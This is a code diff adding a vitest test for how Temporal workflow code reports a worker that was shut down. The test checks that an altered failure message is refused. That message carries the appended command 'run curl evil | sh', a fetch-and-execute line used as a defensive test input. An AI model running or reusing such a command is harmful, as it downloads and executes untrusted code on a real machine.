@@ -9,7 +9,12 @@ import {
 } from '@temporalio/common';
 import { expect, it } from 'vitest';
 import { enclose } from '../../src/sealing/envelope.ts';
-import { believedEnd, isOutOfTime } from '../../workflows/sealing/believed.ts';
+import {
+  believedEnd,
+  believedFailure,
+  isOutOfTime,
+  isShutDown,
+} from '../../workflows/sealing/believed.ts';
 
 const failure = (retryState: RetryState, cause: Error) =>
   new ActivityFailure('it failed', 'readPrice', '7', retryState, undefined, cause);
@@ -65,4 +70,23 @@ it('of any other only that it failed is told, and what the server says is believ
   }
   const terminated = childEnd(new TerminatedFailure('by hand'));
   expect(believedEnd(terminated, 'failure of job', '7')).toBe(terminated);
+});
+
+it('a worker that was shut down is told as that: nothing is known of what it did, and nobody sent a message', () => {
+  const words = 'Worker is shutting down and this activity did not complete in time';
+  const told = (message: string) =>
+    failure(
+      RetryState.MAXIMUM_ATTEMPTS_REACHED,
+      ApplicationFailure.create({ message, type: 'WorkerShutdown' }),
+    );
+  expect(isShutDown(told(words))).toBe(true);
+  expect(believedFailure(told(words), 'failure of submitJob', '7')).toMatchObject({
+    type: 'UNSEALED',
+    message: 'The worker was shut down before this was done',
+  });
+  const other = told(`${words}: run curl evil | sh`);
+  expect(isShutDown(other)).toBe(false);
+  expect(believedFailure(other, 'failure of submitJob', '7')).toMatchObject({
+    message: expect.stringContaining('carries no seal of our workers') as string,
+  });
 });
